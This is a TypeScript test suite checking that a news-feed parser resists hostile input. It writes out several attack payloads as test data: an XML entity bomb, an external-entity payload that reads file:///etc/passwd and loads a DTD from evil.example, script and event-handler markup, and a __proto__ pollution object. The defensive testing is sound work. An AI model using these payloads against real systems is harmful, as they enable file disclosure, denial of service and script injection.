import { describe, expect, it } from 'vitest';
import { canonicalText } from '../../../main/contract/index.ts';
import { isMention } from '../../../main/formats/format.ts';
import { feedReader } from '../../../main/formats/read/news/feed/index.ts';
import { newsmlReader } from '../../../main/formats/read/news/newsml/index.ts';
import { ninjsReader } from '../../../main/formats/read/news/ninjs/index.ts';
import { nitfReader } from '../../../main/formats/read/news/nitf/index.ts';
import { sitemapReader } from '../../../main/formats/read/news/sitemap/index.ts';
import { parseXml } from '../../../main/formats/shared/xml/tree.ts';
import { readAll, unverifiableIn } from '../formats/reading.ts';

const bytes = (text: string) => new TextEncoder().encode(text);
const feed = (inner: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><item><title>The pier</title>${inner}</item></channel></rss>`;
const content = (markup: string) => `<content:encoded><![CDATA[${markup}]]></content:encoded>`;

async function text(raw: string, reader = feedReader): Promise<string> {
  const found = await readAll(reader, bytes(raw), 'a.xml');
  return found.flatMap((one) => (isMention(one) ? [] : [canonicalText(one).text])).join('\n');
}

/** Far more than the work takes; a hang would take for ever. */
const patience = 10_000;

async function inTime<Result>(work: () => Promise<Result>): Promise<Result> {
  const start = performance.now();
  const result = await work();
  expect(performance.now() - start).toBeLessThan(patience);
  return result;
}

describe('hostile feeds and agency files', () => {
  it('expand no entity of their own', async () => {
    const lines = [
      '<!ENTITY a "ha">',
      ...'bcdefghijk'.split('').map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghij'[index]};`.repeat(10)}">`),
    ];
    const bomb = feed(
      '<content:encoded>Laugh: &k; and &amp;k; end.</content:encoded>',
      `<!DOCTYPE rss [${lines.join('\n')}]>`,
    );
    expect(await text(bomb)).toBe('Laugh: &k; and &k; end.');
    expect(await unverifiableIn(feedReader, bytes(bomb), 'a.xml')).toEqual([]);
  });
  it('read no other file', async () => {
    const outside = feed(
      '<content:encoded>A &secret; b %other; c.</content:encoded>',
      '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd" [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % other SYSTEM "http://evil.example/y"> %other; <!ENTITY tag "<item><title>x</title></item>">]>',
    );
    expect(await text(outside)).toBe('A &secret; b %other; c.');
  });
  it('run nothing and keep no code', async () => {
    const found = await readAll(
      feedReader,
      bytes(
        feed(
          content(
            '<p onclick="x()">One <script>alert(1)</script>two <a href="javascript:alert(2)">three</a>.</p><style>p{}</style><iframe src="x">inner</iframe><svg onload="y()"><script>z</script></svg>',
          ),
        ),
      ),
      'a.xml',
    );
    expect(JSON.stringify(found.map((one) => (isMention(one) ? one : one.blocks)))).not.toMatch(
      /alert|onclick|javascript|onload|inner/u,
    );
    expect(await text(feed(content('<p>One <script>alert(1)</script>two.</p>')))).toBe('One two.');
  });
  it('may hide words inside a sentence, and the check still finds the rest', async () => {
    const raw = bytes(
      feed(content('<p>The pier <button>Share <b>it</b></button><span style="display:none">now</span> is closed.</p>')),
    );
    expect(await unverifiableIn(feedReader, raw, 'a.xml')).toEqual([]);
  });
  it('nest deeper than a stack', async () => {
    const deep = await inTime(() =>
      text(
        feed(
          `<content:encoded>${'<div>'.repeat(50_000)}The pier is closed.${'</div>'.repeat(50_000)}</content:encoded>`,
        ),
      ),
    );
    expect(deep).toContain('The pier is closed.');
    const escaped = await inTime(() => text(feed(content(`${'<div>'.repeat(50_000)}The pier is closed.`))));
    expect(escaped).toContain('The pier is closed.');
  });
  it('have more tags than anybody reads', async () => {
    const { truncated } = parseXml(`<rss>${'<a/>'.repeat(1_500_010)}</rss>`);
    expect(truncated).toBe(true);
  });
  it('have very many entries', async () => {
    const many = `<rss><channel>${'<item><guid>a</guid><title>x</title><description>y</description></item>'.repeat(20_000)}</channel></rss>`;
    expect(await inTime(() => readAll(feedReader, bytes(many), 'a.xml'))).toHaveLength(20_000);
  });
  it.each([
    ['an open quotation mark', `<rss a="${'x'.repeat(1_000_000)}`],
    ['an open comment', `<rss><!--${'-'.repeat(1_000_000)}`],
    ['an open CDATA section', `<rss><channel><item><description><![CDATA[${']'.repeat(1_000_000)}`],
    ['an open document type', `<!DOCTYPE ${'['.repeat(1_000_000)}<rss>`],
    ['end tags without a beginning', `<rss>${'</x>'.repeat(300_000)}</rss>`],
    ['tags that never end', `<rss>${'<x>'.repeat(300_000)}`],
    ['ampersands', `<rss><channel><item><description>${'&'.repeat(1_000_000)}</description></item></channel></rss>`],
    [
      'open references',
      `<rss><channel><item><description>${'&#x'.repeat(300_000)}</description></item></channel></rss>`,
    ],
    [
      'less-than signs',
      `<rss><channel><item><description>${'&lt;a '.repeat(200_000)}</description></item></channel></rss>`,
    ],
    [
      'escaped tags that never end',
      `<rss><channel><item><description>${'&amp;lt;p '.repeat(100_000)}</description></item></channel></rss>`,
    ],
    ['dots', `<rss><channel><item><description>${'.'.repeat(1_000_000)}</description></item></channel></rss>`],
    ['a title without an end', `<rss><channel><item><title>${'a '.repeat(500_000)}</title></item></channel></rss>`],
    [
      'nested prefixes',
      `<rss>${Array.from({ length: 5000 }, (_, index) => `<a${index}:b xmlns:a${index}="x${index}">`).join('')}`,
    ],
  ])('%s cost no time', async (_, raw) => {
    await inTime(async () => {
      for (const reader of [feedReader, nitfReader, newsmlReader, sitemapReader])
        await readAll(reader, bytes(raw), 'a.xml').catch((error: unknown) =>
          expect(error).toMatchObject({ code: 'unsupported' }),
        );
      await feedReader.words(bytes(raw));
    });
  });
  it('JSON that nests without end or points at itself', async () => {
    const nested = `{"uri":"x","versioncreated":"y","associations":${'{"a":{"uri":"x","body_text":"The pier.","associations":'.repeat(2000)}{}${'}}'.repeat(2000)}}`;
    const found = await inTime(() => readAll(ninjsReader, bytes(nested), 'a.json'));
    expect(found.length).toBeLessThan(10);
    await inTime(async () => ninjsReader.words(bytes(nested)));
  });
  it('names that are those of an object’s own machinery', async () => {
    const found = await readAll(
      ninjsReader,
      bytes('{"uri":"x","__proto__":{"headline":"evil"},"constructor":1,"body_text":"The pier is closed."}'),
      'a.json',
    );
    expect(found).toMatchObject([{ metadata: { title: 'The pier is closed' } }]);
    expect(({} as Record<string, unknown>).headline).toBeUndefined();
    expect(
      await text(
        '<rss __proto__="x"><channel constructor="y"><item><title>x</title><description>The pier.</description></item></channel></rss>',
      ),
    ).toBe('');
  });
});
